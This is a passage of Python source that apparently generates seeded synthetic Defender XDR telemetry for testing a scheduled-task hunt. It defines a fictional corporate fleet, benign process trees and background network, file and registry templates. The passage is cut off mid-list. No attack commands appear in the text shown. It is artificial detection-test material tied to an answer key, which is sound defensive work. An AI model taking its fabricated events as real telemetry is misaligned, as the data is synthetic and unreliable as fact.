"""Seeded, realistic Defender XDR data for the rare-scheduled-task hunt (MITRE T1053.005).

Why this module exists: the published hunt (``queries/rare_sch_task_with_activity.yaml``) can only
be judged on data whose answer is known. ``generate_sample`` writes the seven tables the hunt reads,
shaped like advanced-hunting exports, with a known set of planted scheduled tasks (malicious ones,
the published false positives and the edge cases where the published text slips) hidden among an
office's everyday activity, and writes the answer key next to them in ``scenarios.yaml``.

How it is built:

* Every process of the data set is one row of a process list. Events point at a row of that list
  for their ``InitiatingProcess*`` columns, so an activity row always carries exactly the file
  name, command line, folder, pid and creation time of the process that made it, and process
  trees are real trees.
* Background volume (everything that is not a planted scenario) is drawn vectorised from small
  catalogues: per table a list of event templates whose column values are pools. Only the ~20
  planted scenarios are written row by row.
* Strings are held as pandas Categoricals (codes into small pools), which keeps a 10-million-row
  data set in a few hundred MB and lets parquet be written in chunks.
* Randomness comes only from ``numpy.random.Generator(seed)``; there is no wall clock and no
  Python ``hash()``, so a seed always gives byte-identical files.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import string
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Sequence

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import yaml
from pandas.api.types import union_categoricals

from hunting_lib.schema import PROCESS_TABLE, TABLES, required_columns, table_columns

__all__ = ["generate_sample", "WINDOW_START", "WINDOW_END"]

# --------------------------------------------------------------------------------------------
# Time: everything is int64 nanoseconds since the epoch, always a multiple of 100 ns so that the
# 7-digit fractions of advanced-hunting exports are exact.
# --------------------------------------------------------------------------------------------

WINDOW_START = "2026-11-02T00:00:00Z"  # a Monday
WINDOW_END = "2026-11-10T00:00:00Z"
_DAYS = 8
_SEC = 10**9
_MIN = 60 * _SEC
_HOUR = 3600 * _SEC
_DAY = 24 * _HOUR
_T0 = int(np.datetime64(WINDOW_START.rstrip("Z"), "ns").astype(np.int64))
_NAT = np.iinfo(np.int64).min  # the same bits as numpy's NaT
_NULL = -1  # null sentinel for integer columns (pids, ports and ids are never negative)

#: Background rows per table at scale 1.0. Process and network events dominate, as in real data.
_BASE_ROWS = {
    "DeviceProcessEvents": 12_000,
    "DeviceNetworkEvents": 15_000,
    "DeviceFileEvents": 8_000,
    "DeviceRegistryEvents": 6_500,
    "DeviceLogonEvents": 1_500,
    "DeviceImageLoadEvents": 8_500,
    "DeviceEvents": 2_500,
}
#: Everyday Task Scheduler children, as a share of background process events (real estates: 1-10%).
_TASK_SHARE = 0.06
#: Every everyday task group gets at least this many runs, so that the hunt's ``count_ < 3`` never
#: flags background noise, whatever the scale; only planted scenarios are rare.
_TASK_FLOOR = 3

# --------------------------------------------------------------------------------------------
# Columns written per table: a realistic subset of the schema, in schema order.
# --------------------------------------------------------------------------------------------

_COMMON = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "ReportId",
    "InitiatingProcessAccountDomain", "InitiatingProcessAccountName", "InitiatingProcessAccountSid",
    "InitiatingProcessIntegrityLevel", "InitiatingProcessSHA1", "InitiatingProcessSHA256",
    "InitiatingProcessFileName", "InitiatingProcessVersionInfoCompanyName", "InitiatingProcessId",
    "InitiatingProcessCommandLine", "InitiatingProcessCreationTime", "InitiatingProcessFolderPath",
    "InitiatingProcessParentId", "InitiatingProcessParentFileName",
    "InitiatingProcessParentCreationTime",
]
_EXTRA = {
    "DeviceProcessEvents": [
        "FileName", "FolderPath", "SHA1", "SHA256", "ProcessVersionInfoCompanyName", "ProcessId",
        "ProcessCommandLine", "ProcessIntegrityLevel", "ProcessCreationTime", "AccountDomain",
        "AccountName", "AccountSid",
    ],
    "DeviceNetworkEvents": [
        "RemoteIP", "RemotePort", "RemoteUrl", "LocalIP", "LocalPort", "Protocol", "LocalIPType",
        "RemoteIPType",
    ],
    "DeviceFileEvents": [
        "FileName", "FolderPath", "SHA256", "FileSize", "FileOriginUrl", "PreviousFileName",
        "RequestProtocol", "RequestSourceIP", "RequestAccountName",
    ],
    "DeviceRegistryEvents": [
        "RegistryKey", "RegistryValueType", "RegistryValueName", "RegistryValueData",
    ],
    "DeviceLogonEvents": [
        "LogonType", "AccountDomain", "AccountName", "AccountSid", "Protocol", "FailureReason",
        "LogonId", "RemoteDeviceName", "RemoteIP", "RemoteIPType", "RemotePort", "AdditionalFields",
    ],
    "DeviceImageLoadEvents": ["FileName", "FolderPath", "SHA1", "SHA256"],
    "DeviceEvents": [
        "FileName", "FolderPath", "RemoteUrl", "ProcessId", "ProcessCommandLine", "AdditionalFields",
    ],
}


def _columns(table: str) -> list[str]:
    """The columns written for ``table``, in the schema's order."""
    wanted = set(_COMMON) | set(_EXTRA[table])
    cols = [c for c in table_columns(table) if c in wanted]
    missing = set(required_columns(table)) - set(cols)
    assert not missing, f"{table} misses required columns {missing}"
    return cols


# --------------------------------------------------------------------------------------------
# The process list. Each process is one row; events refer to rows by index.
# --------------------------------------------------------------------------------------------

_P_STR = [
    "FileName", "FolderPath", "CommandLine", "AccountDomain", "AccountName", "AccountSid",
    "Integrity", "SHA1", "SHA256", "Company",
]
_P_INT = ["device", "pid", "created", "parent", "scn"]

#: Event column <- process-list column, for the process that acted (``Initiating*``).
_INITIATING = {
    "InitiatingProcessFileName": "FileName",
    "InitiatingProcessFolderPath": "FolderPath",
    "InitiatingProcessCommandLine": "CommandLine",
    "InitiatingProcessAccountDomain": "AccountDomain",
    "InitiatingProcessAccountName": "AccountName",
    "InitiatingProcessAccountSid": "AccountSid",
    "InitiatingProcessIntegrityLevel": "Integrity",
    "InitiatingProcessSHA1": "SHA1",
    "InitiatingProcessSHA256": "SHA256",
    "InitiatingProcessVersionInfoCompanyName": "Company",
    "InitiatingProcessId": "pid",
    "InitiatingProcessCreationTime": "created",
}
_INITIATING_PARENT = {
    "InitiatingProcessParentId": "pid",
    "InitiatingProcessParentFileName": "FileName",
    "InitiatingProcessParentCreationTime": "created",
}
#: DeviceProcessEvents columns of the created process.
_CREATED = {
    "FileName": "FileName",
    "FolderPath": "FolderPath",
    "SHA1": "SHA1",
    "SHA256": "SHA256",
    "ProcessVersionInfoCompanyName": "Company",
    "ProcessId": "pid",
    "ProcessCommandLine": "CommandLine",
    "ProcessIntegrityLevel": "Integrity",
    "ProcessCreationTime": "created",
    "AccountDomain": "AccountDomain",
    "AccountName": "AccountName",
    "AccountSid": "AccountSid",
}

SYSTEM = ("nt authority", "system", "S-1-5-18")
LOCAL_SERVICE = ("nt authority", "local service", "S-1-5-19")
NETWORK_SERVICE = ("nt authority", "network service", "S-1-5-20")
_SERVICE_ACCOUNT = {a[1]: a for a in (SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE)}
_DOMAIN = "fabrikam"
_FQDN = "corp.fabrikam.com"

# Frequently used binaries.
_SYS32 = "C:\\Windows\\System32\\"
_SVCHOST = _SYS32 + "svchost.exe"
_CMD = _SYS32 + "cmd.exe"
_POWERSHELL = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_RUNDLL32 = _SYS32 + "rundll32.exe"
_REGSVR32 = _SYS32 + "regsvr32.exe"
_CONHOST = _SYS32 + "conhost.exe"
_DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\"
_MS = "Microsoft Corporation"
SCHEDULE_CMDLINE = "svchost.exe -k netsvcs -p -s Schedule"


# --------------------------------------------------------------------------------------------
# Small helpers for Categorical columns.
# --------------------------------------------------------------------------------------------


def _pick(pool: Sequence[str], codes: np.ndarray) -> pd.Categorical:
    """pool[codes] as a Categorical, without building a Python string per row."""
    uniq, inverse = np.unique(np.asarray(list(pool), dtype=object), return_inverse=True)
    return pd.Categorical.from_codes(inverse[np.asarray(codes)], categories=pd.Index(uniq, dtype=object))


def _const(value: str, n: int) -> pd.Categorical:
    return pd.Categorical.from_codes(np.zeros(n, dtype=np.int8), categories=pd.Index([value], dtype=object))


def _as_cat(values: Any, n: int) -> pd.Categorical:
    if isinstance(values, pd.Categorical):
        return values
    if isinstance(values, str):
        return _const(values, n)
    return pd.Categorical(np.asarray(values, dtype=object))


def _take_cat(cat: pd.Categorical, idx: np.ndarray) -> pd.Categorical:
    """cat[idx], with idx == -1 giving "" (a missing process means empty strings, as in Kusto)."""
    categories = cat.categories
    if "" not in categories:
        categories = categories.append(pd.Index([""], dtype=object))
    empty = categories.get_loc("")
    codes = np.where(idx >= 0, cat.codes[np.maximum(idx, 0)], empty)
    return pd.Categorical.from_codes(codes, categories=categories)


def _take_int(values: np.ndarray, idx: np.ndarray, null: int) -> np.ndarray:
    return np.where(idx >= 0, values[np.maximum(idx, 0)], null)


def _json(value: Any) -> str:
    """Compact JSON, as Defender writes AdditionalFields."""
    return json.dumps(value, separators=(",", ":"))


def _hashes(key: str) -> tuple[str, str]:
    """Stable, well-formed SHA1/SHA256 for a binary (fake: the real files are not available)."""
    data = key.lower().encode()
    return hashlib.sha1(b"sha1|" + data).hexdigest(), hashlib.sha256(b"sha256|" + data).hexdigest()


_USER_DIR = re.compile(r"^c:\\users\\[^\\]+\\", re.IGNORECASE)


def _binary_key(folder_path: str) -> str:
    """Per-user copies of one program (OneDrive under each profile) share their hash."""
    return _USER_DIR.sub(r"c:\\users\\*\\", folder_path)


def _iso7(ns: np.ndarray) -> np.ndarray:
    """Advanced-hunting timestamps: ``2026-11-02T03:04:05.1234567Z``; "" for null."""
    ns = np.asarray(ns, dtype=np.int64)
    null = ns == _NAT
    safe = np.where(null, 0, ns)
    seconds = np.datetime_as_string(safe.astype("M8[ns]").astype("M8[s]"), unit="s").astype(object)
    ticks = (safe % _SEC) // 100
    frac = pd.Series(ticks).astype(str).str.zfill(7).to_numpy(dtype=object)
    out = seconds + "." + frac + "Z"
    out[null] = ""
    return out


# --------------------------------------------------------------------------------------------
# The fleet: devices, users, addresses.
# --------------------------------------------------------------------------------------------

_FIRST = (
    "aino anna antti eero elina emma helmi ilkka jari johanna juha kaisa kalle laura leena liisa "
    "markku matti mika minna niina olli pekka petra riikka sami sanna satu teemu tiina timo tuomas "
    "ville aleksi jenni hanna oskari noora eveliina joel iida mikael sara tommi katja lauri marja "
    "paula reijo santeri ulla veera arttu henna ismo jussi"
).split()
_LAST = (
    "virtanen korhonen nieminen makinen hamalainen laine heikkinen koskinen jarvinen lehtonen "
    "lehtinen saarinen salminen heinonen niemi heikkila kinnunen salonen turunen salo laitinen "
    "tuominen rantanen karjalainen jokinen mattila savolainen lahtinen ahonen kallio"
).split()
_SITES = ("hel", "tre", "oul", "tku")
_DEPTS = ("fin", "hr", "sal", "eng", "ops", "it", "mkt")
#: Servers: (short name, role). The roles decide which background events a server produces.
_SERVERS = (("dc01", "dc"), ("dc02", "dc"), ("fs01", "fs"), ("fs02", "fs"), ("app01", "app"),
            ("sql01", "sql"))


@dataclass
class _Fleet:
    names: list[str]            # DeviceName, lower-case FQDN
    short: list[str]
    ids: list[str]              # DeviceId, 40 hex
    role: np.ndarray            # "ws" or a server role
    ip: list[str]
    user: list[str]             # primary user of a workstation ("" on servers)
    user_sid: list[str]
    boot: np.ndarray            # boot time, ns (before the window: no reboots inside it)
    sched_cmd: list[str]        # the Task Scheduler host's command line on this device
    users: list[str]            # all domain users
    user_sids: list[str]
    admins: list[str]           # admin accounts (adm-...)
    domain_sid: str
    lower_sys32: np.ndarray     # devices that record C:\Windows\system32\ (real-world casing)
    ws: np.ndarray = field(init=False)
    servers: np.ndarray = field(init=False)

    def __post_init__(self) -> None:
        self.ws = np.flatnonzero(self.role == "ws")
        self.servers = np.flatnonzero(self.role != "ws")

    def by_role(self, role: str) -> np.ndarray:
        if role == "all":
            return np.arange(len(self.names))
        if role == "srv":
            return self.servers
        return np.flatnonzero(self.role == role)

    def server(self, short: str) -> int:
        return self.short.index(short)


def _make_fleet(rng: np.random.Generator, scale: float) -> _Fleet:
    n_ws = max(40, int(round(40 * scale**0.5)))
    n_users = n_ws + 12
    pairs = rng.permutation(len(_FIRST) * len(_LAST))[:n_users]
    users = [f"{_FIRST[k // len(_LAST)]}.{_LAST[k % len(_LAST)]}" for k in pairs]
    users += [f"user{i:04d}" for i in range(n_users - len(users))]  # more users than names
    domain_sid = "S-1-5-21-" + "-".join(str(x) for x in rng.integers(10**9, 4 * 10**9, 3))
    user_sids = [f"{domain_sid}-{1104 + i}" for i in range(n_users)]
    admins = [f"adm-{u.split('.')[0][0]}{u.split('.')[1]}" for u in users[n_ws:n_ws + 3]]

    names, short, role, ip, user, user_sid = [], [], [], [], [], []
    sites = rng.integers(0, len(_SITES), n_ws)
    depts = rng.integers(0, len(_DEPTS), n_ws)
    for i in range(n_ws):
        kind = "lt" if rng.random() < 0.7 else "ws"
        s = f"{_SITES[sites[i]]}-{_DEPTS[depts[i]]}-{kind}{100 + i:03d}"
        short.append(s)
        role.append("ws")
        ip.append(f"10.20.{sites[i] * 16 + i // 200}.{10 + i % 200}")
        user.append(users[i])
        user_sid.append(user_sids[i])
    for j, (s, r) in enumerate(_SERVERS):
        short.append(s)
        role.append(r)
        ip.append(f"10.10.1.{10 + j}")
        user.append("")
        user_sid.append("")
    names = [f"{s}.{_FQDN}" for s in short]
    ids = [hashlib.sha1(n.encode()).hexdigest() for n in names]
    n_dev = len(names)
    boot = _T0 - rng.integers(2 * _HOUR // 100, 9 * _DAY // 100, n_dev) * 100
    sched_cmd = [SCHEDULE_CMDLINE] * n_dev
    lower_sys32 = rng.random(n_dev) < 0.25
    return _Fleet(names, short, ids, np.array(role), ip, user, user_sid, boot, sched_cmd, users,
                  user_sids, admins, domain_sid, lower_sys32)


# --------------------------------------------------------------------------------------------
# Pools for background values.
# --------------------------------------------------------------------------------------------

_DOCS = [
    f"{a}{b}" for a in (
        "Budget", "Forecast", "Invoice", "Minutes", "Roadmap", "Contract", "Report", "Offer",
        "Travel", "Timesheet", "Presentation", "Specs", "Inventory", "Audit", "Plan",
    ) for b in ("_Q3", "_Q4", "_2026", "_v2", "_final", "_draft", "-summary", "")
]
_WEB = [  # (RemoteUrl, RemoteIP) of everyday browsing
    ("www.google.com", "142.250.74.36"), ("www.youtube.com", "142.250.74.46"),
    ("fonts.gstatic.com", "142.250.74.35"), ("ajax.googleapis.com", "142.250.74.10"),
    ("github.com", "140.82.121.4"), ("www.linkedin.com", "13.107.42.14"),
    ("stackoverflow.com", "104.18.32.7"), ("www.wikipedia.org", "185.15.59.224"),
    ("cdn.jsdelivr.net", "104.16.85.20"), ("www.bbc.com", "151.101.0.81"),
    ("yle.fi", "23.50.52.111"), ("www.reddit.com", "151.101.1.140"),
    ("zoom.us", "170.114.52.2"), ("docs.python.org", "151.101.128.223"),
    ("www.hs.fi", "104.18.22.39"), ("www.office.com", "13.107.6.156"),
    ("fabrikam.sharepoint.com", "13.107.136.10"), ("www.bing.com", "13.107.21.200"),
    ("", "142.250.74.99"), ("", "13.107.42.14"), ("", "104.18.32.7"), ("", "151.101.1.140"),
]
_MS365 = [
    ("login.microsoftonline.com", "20.190.159.4"), ("login.microsoftonline.com", "40.126.32.134"),
    ("outlook.office365.com", "52.97.146.162"), ("outlook.office365.com", "40.99.150.66"),
    ("graph.microsoft.com", "20.190.160.20"), ("fabrikam-my.sharepoint.com", "13.107.136.10"),
    ("", "52.97.146.162"), ("", "20.190.159.4"),
]
_TEAMS = [("teams.microsoft.com", "52.113.194.132"), ("presence.teams.microsoft.com", "52.114.88.29"),
          ("", "52.113.194.132"), ("", "52.114.88.29")]
_WINDOWS_UPDATE = [("fe3cr.delivery.mp.microsoft.com", "20.12.23.50"),
                   ("ctldl.windowsupdate.com", "93.184.221.240"),
                   ("slscr.update.microsoft.com", "20.72.235.82"), ("", "20.12.23.50")]
_TELEMETRY = [("v10.events.data.microsoft.com", "20.42.65.92"),
              ("settings-win.data.microsoft.com", "51.104.15.252"), ("", "20.42.65.92")]
_DEFENDER_CLOUD = [("wdcp.microsoft.com", "20.199.120.182"),
                   ("definitionupdates.microsoft.com", "13.107.4.52"), ("", "20.199.120.182")]
_MDE_CLOUD = [("winatp-gw-weu.microsoft.com", "20.73.130.22"),
              ("eu-v20.events.data.microsoft.com", "20.50.201.200"), ("", "20.73.130.22")]
_EDGE_UPDATE = [("msedge.api.cdp.microsoft.com", "13.107.246.41"), ("", "13.107.246.41")]
_GOOGLE_UPDATE = [("update.googleapis.com", "142.250.74.99"), ("", "142.250.74.99")]
_ONEDRIVE_UPDATE = [("oneclient.sfx.ms", "152.199.19.161"), ("g.live.com", "13.107.42.13")]
_OFFICE_CDN = [("officecdn.microsoft.com", "152.199.19.160"),
               ("officeclient.microsoft.com", "52.109.8.20"), ("", "52.109.8.20")]
_WER = [("watson.events.data.microsoft.com", "20.189.173.1")]
_HEX = [f"{v:06x}" for v in np.random.default_rng(2026).integers(0, 16**6, 400)]  # fixed pool
_GUIDS = [
    "{" + "-".join(h[i:j] for i, j in ((0, 8), (8, 12), (12, 16), (16, 20), (20, 32))).upper() + "}"
    for h in (hashlib.md5(f"guid{k}".encode()).hexdigest() for k in range(40))
]


def _ephemeral(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(49152, 65536, n)


def _logon_id(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(300_000, 90_000_000, n)


def _file_size(rng: np.random.Generator, n: int) -> np.ndarray:
    return (rng.lognormal(11, 1.5, n)).astype(np.int64) + 100


# --------------------------------------------------------------------------------------------
# Long-lived processes: one per device and kind, started at boot or at the user's logon.
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Kind:
    key: str
    folder: str                  # full path; <u> is the device's user
    cmd: str
    parent: str | None
    delay_s: float               # seconds after boot
    where: str = "all"           # "all", "ws", "srv" or a server role
    account: str = "system"      # "system", "local service", "network service" or "user"
    integrity: str = "System"
    company: str = _MS
    pid: int | None = None       # fixed pid (System is always 4)

    @property
    def file(self) -> str:
        return self.folder.rsplit("\\", 1)[-1] if self.folder else "System"


def _svchost(key: str, cmd: str, delay_s: float, account: str = "system", where: str = "all") -> _Kind:
    return _Kind(key, _SVCHOST, cmd, "services", delay_s, where, account)


def _session(key: str, folder: str, cmd: str, parent: str, delay_s: float, company: str = _MS) -> _Kind:
    """A process of the user's session on a workstation."""
    return _Kind(key, folder, cmd, parent, delay_s, "ws", "user", "Medium", company)


_LONG_LIVED = [
    _Kind("system", "", "", None, 0.0, company="", pid=4),
    _Kind("smss", _SYS32 + "smss.exe", "smss.exe", "system", 1),
    _Kind("wininit", _SYS32 + "wininit.exe", "wininit.exe", "smss", 4),
    _Kind("winlogon", _SYS32 + "winlogon.exe", "winlogon.exe", "smss", 4.5),
    _Kind("services", _SYS32 + "services.exe", "services.exe", "wininit", 5),
    _Kind("lsass", _SYS32 + "lsass.exe", "lsass.exe", "wininit", 5.2),
    _svchost("svc_dcom", "svchost.exe -k DcomLaunch -p", 6),
    _svchost("svc_dns", "svchost.exe -k NetworkService -p -s Dnscache", 8, "network service"),
    _svchost("svc_schedule", SCHEDULE_CMDLINE, 9),
    _svchost("svc_gp", "svchost.exe -k netsvcs -p -s gpsvc", 9.5),
    _svchost("svc_sysmain", "svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain", 11),
    _svchost("svc_term", "svchost.exe -k NetworkService -s TermService", 12, "network service", "srv"),
    _svchost("svc_wu", "svchost.exe -k netsvcs -p -s wuauserv", 40),
    _svchost("svc_bits", "svchost.exe -k netsvcs -p -s BITS", 41),
    _Kind("msmpeng", _DEFENDER + "MsMpEng.exe", "MsMpEng.exe", "services", 10),
    _Kind("mssense", "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe", '"MsSense.exe"',
          "services", 12),
    _Kind("searchindexer", _SYS32 + "SearchIndexer.exe", "SearchIndexer.exe /Embedding", "services", 30, "ws"),
    _Kind("dns", _SYS32 + "dns.exe", "dns.exe", "services", 14, "dc"),
    _Kind("sqlservr", "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
          '"sqlservr.exe" -sMSSQLSERVER', "services", 20, "sql", "network service", "High"),
    _session("userinit", _SYS32 + "userinit.exe", "userinit.exe", "winlogon", 60),
    _session("explorer", "C:\\Windows\\explorer.exe", "Explorer.EXE", "userinit", 62),
    _session("msedge", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
             '"msedge.exe" --no-startup-window --win-session-start', "explorer", 80),
    _session("chrome", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe"', "explorer", 300,
             "Google LLC"),
    _session("teams", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe",
             '"ms-teams.exe" msteams:system-initiated', "explorer", 90),
    _session("outlook", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"OUTLOOK.EXE"',
             "explorer", 240),
    _session("onedrive", "C:\\Users\\<u>\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
             '"OneDrive.exe" /background', "explorer", 85),
]
_KIND_INDEX = {k.key: i for i, k in enumerate(_LONG_LIVED)}


# --------------------------------------------------------------------------------------------
# Event templates: column pools drawn vectorised. A pool is a scalar, a list (uniform pick), a
# callable (rng, n) -> values, or for a tuple of columns a list of tuples (picked together).
# In strings, <u> <sid> <host> <ip> <dc_ip> <fs_ip> are the device's, <doc> <hex> <guid> <n> are
# random per row, <ru>/<ru_sid> a random domain user and <peer_ip>/<peer> a random workstation.
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Tpl:
    table: str
    kind: str                     # long-lived kind that acts (background templates)
    where: str                    # devices: "all", "ws", "srv" or a server role
    weight: float                 # share of the table's rows (task activity: probability per run)
    actions: tuple[str, ...]
    cols: dict = field(default_factory=dict)


_MOSTLY_SUCCESS = ("ConnectionSuccess",) * 12 + ("ConnectionFailed",)


def _net(kind: str, where: str, weight: float, endpoints, ports=(443,), actions=_MOSTLY_SUCCESS) -> _Tpl:
    """Outbound connections to public endpoints, (RemoteUrl, RemoteIP) pairs."""
    return _Tpl("DeviceNetworkEvents", kind, where, weight, actions, {
        ("RemoteUrl", "RemoteIP"): endpoints, "RemotePort": list(ports), "Protocol": "Tcp",
        "LocalIP": "<ip>", "LocalPort": _ephemeral, "LocalIPType": "Private", "RemoteIPType": "Public"})


def _net_internal(kind: str, where: str, weight: float, remote_ip: str, ports, proto: str = "Tcp",
                  inbound: bool = False) -> _Tpl:
    cols = {"RemoteIP": remote_ip, "RemotePort": list(ports), "Protocol": proto, "LocalIP": "<ip>",
            "LocalPort": _ephemeral, "LocalIPType": "Private", "RemoteIPType": "Private"}
    if inbound:  # the server's side is the well-known port
        cols.update({"LocalPort": list(ports), "RemotePort": _ephemeral})
    return _Tpl("DeviceNetworkEvents", kind, where, weight,
                ("InboundConnectionAccepted",) if inbound else ("ConnectionSuccess",), cols)


def _file(kind: str, where: str, weight: float, actions: tuple[str, ...], paths: Sequence[str], **extra: Any) -> _Tpl:
    cols = {("FolderPath", "FileName"): [(p, p.rsplit("\\", 1)[-1]) for p in paths], "FileSize": _file_size}
    cols.update(extra)
    return _Tpl("DeviceFileEvents", kind, where, weight, actions, cols)


def _reg(kind: str, where: str, weight: float, key_values, actions=("RegistryValueSet",)) -> _Tpl:
    """key_values: (RegistryKey, RegistryValueName, RegistryValueType, RegistryValueData) tuples."""
    return _Tpl("DeviceRegistryEvents", kind, where, weight, actions,
                {("RegistryKey", "RegistryValueName", "RegistryValueType", "RegistryValueData"): key_values})


def _pipe_event(kind: str, weight: float) -> _Tpl:
    pipe = {"PipeName": "\\Device\\NamedPipe\\mojo.<n>.<n>.<hex>", "FileOperation": "File created",
            "NamedPipeEnd": "Server"}
    return _Tpl("DeviceEvents", kind, "ws", weight, ("NamedPipeEvent",), {"AdditionalFields": [_json(pipe)]})


_HKCU = "HKEY_CURRENT_USER\\<sid>\\SOFTWARE\\"
_HKLM = "HKEY_LOCAL_MACHINE\\SOFTWARE\\"
_EXPLORER_KEY = _HKCU + "Microsoft\\Windows\\CurrentVersion\\Explorer\\"
_USERASSIST = _EXPLORER_KEY + "UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count"
_TASK_CACHE = _HKLM + "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\"
_USER_LOCAL = "C:\\Users\\<u>\\AppData\\Local\\"
_OUTLOOK_CACHE = _USER_LOCAL + "Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RX2K1M\\"
_RECENT = "C:\\Users\\<u>\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\"
_DOWNLOADS = "C:\\Users\\<u>\\Downloads\\"
_ONEDRIVE_FILES = "C:\\Users\\<u>\\OneDrive - Fabrikam\\"
_PREFETCH = ("CHROME.EXE", "MSEDGE.EXE", "SVCHOST.EXE", "CONHOST.EXE", "WMIPRVSE.EXE", "SEARCHPROTOCOLHOST.EXE")
_SERVICE_ACCOUNTS = [(a[1], a[2]) for a in (SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE)]
_LOCAL_LOGON = {"LogonType": ["Interactive", "Unlock", "Unlock", "CachedInteractive"], "AccountDomain": _DOMAIN,
                "AccountName": "<u>", "AccountSid": "<sid>", "Protocol": ["Negotiate", "Kerberos"],
                "LogonId": _logon_id, "AdditionalFields": '{"IsLocalLogon":true}'}
_NETWORK_LOGON = {"LogonType": "Network", "AccountDomain": _DOMAIN, "AccountName": "<ru>", "AccountSid": "<ru_sid>",
                  "LogonId": _logon_id, "RemoteIP": "<peer_ip>", "RemoteIPType": "Private",
                  "AdditionalFields": '{"IsLocalLogon":false}'}

_BACKGROUND: list[_Tpl] = [
    # Network
    _net("chrome", "ws", 22, _WEB, (443, 443, 443, 80)),
    _net("msedge", "ws", 14, _WEB + _MS365, (443, 443, 443, 80)),
    _net("teams", "ws", 10, _TEAMS),
    _Tpl("DeviceNetworkEvents", "teams", "ws", 3, ("ConnectionSuccess",), {
        "RemoteIP": ["52.113.194.133", "52.114.132.9"], "RemotePort": [3478, 3479, 3480], "Protocol": "Udp",
        "LocalIP": "<ip>", "LocalPort": _ephemeral, "LocalIPType": "Private", "RemoteIPType": "Public"}),
    _net("outlook", "ws", 6, _MS365),
    _net("onedrive", "ws", 5, [("fabrikam-my.sharepoint.com", "13.107.136.10"), ("", "13.107.136.10")]),
    _net("svc_wu", "all", 3, _WINDOWS_UPDATE, (443, 80)),
    _net("svc_bits", "all", 2, _WINDOWS_UPDATE, (443, 80)),
    _net("svc_dcom", "all", 2, _TELEMETRY),
    _net("msmpeng", "all", 3, _DEFENDER_CLOUD),
    _net("mssense", "all", 5, _MDE_CLOUD),
    _net_internal("svc_dns", "all", 6, "<dc_ip>", (53,), "Udp"),
    _net_internal("lsass", "ws", 4, "<dc_ip>", (88, 389, 88)),
    _net_internal("system", "ws", 3, "<fs_ip>", (445,)),
    _net_internal("system", "fs", 8, "<peer_ip>", (445,), inbound=True),
    _net_internal("lsass", "dc", 8, "<peer_ip>", (88, 389, 135), inbound=True),
    _net_internal("dns", "dc", 6, "<peer_ip>", (53,), "Udp", inbound=True),
    _net_internal("sqlservr", "sql", 3, "10.10.1.14", (1433,), inbound=True),
    # Files
    _file("chrome", "ws", 10, ("FileCreated",),
          [_USER_LOCAL + "Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_<hex>"]),
    _file("chrome", "ws", 3, ("FileRenamed",), [_DOWNLOADS + "<doc>.pdf", _DOWNLOADS + "<doc>.xlsx"],
          PreviousFileName="Unconfirmed <n>.crdownload",
          FileOriginUrl=["https://fabrikam.sharepoint.com/sites/Team/Shared%20Documents/<doc>",
                         "https://www.office.com/download/<doc>", "https://github.com/fabrikam/tools/releases/<doc>"]),
    _file("msedge", "ws", 5, ("FileCreated",),
          [_USER_LOCAL + "Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\f_<hex>"]),
    _file("outlook", "ws", 4, ("FileCreated",), [_OUTLOOK_CACHE + "<doc>.docx", _OUTLOOK_CACHE + "<doc>.pdf"]),
    _file("onedrive", "ws", 6, ("FileModified", "FileModified", "FileCreated"),
          [_ONEDRIVE_FILES + "Documents\\<doc>.docx", _ONEDRIVE_FILES + "Projects\\<doc>.xlsx"]),
    _file("explorer", "ws", 3, ("FileCreated",), [_RECENT + "<doc>.lnk"]),
    _file("svc_sysmain", "all", 5, ("FileModified",), [f"C:\\Windows\\Prefetch\\{exe}-<hex>.pf" for exe in _PREFETCH]),
    _file("msmpeng", "all", 3, ("FileModified", "FileCreated"),
          ["C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db",
           "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\<hex>-0.bin"]),
    _file("svc_wu", "all", 2, ("FileCreated",), ["C:\\Windows\\SoftwareDistribution\\Download\\<hex>\\<hex>.cab",
                                                 "C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb.log"]),
    _file("system", "fs", 10, ("FileModified", "FileCreated", "FileModified", "FileDeleted"),
          ["D:\\Shares\\Finance\\<doc>.xlsx", "D:\\Shares\\Sales\\<doc>.docx", "D:\\Shares\\Common\\<doc>.pdf"],
          RequestProtocol="Smb", RequestSourceIP="<peer_ip>", RequestAccountName="<ru>"),
    _file("sqlservr", "sql", 2, ("FileModified",),
          ["D:\\MSSQL\\Data\\Reporting_log.ldf", "D:\\MSSQL\\Data\\Reporting.mdf"]),
    # Registry
    _reg("explorer", "ws", 6, [
        (_USERASSIST, "{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\abgrcnq.rkr", "Binary", ""),
        (_USERASSIST, "Zvpebfbsg.Jvaqbjf.Rkcybere", "Binary", ""),
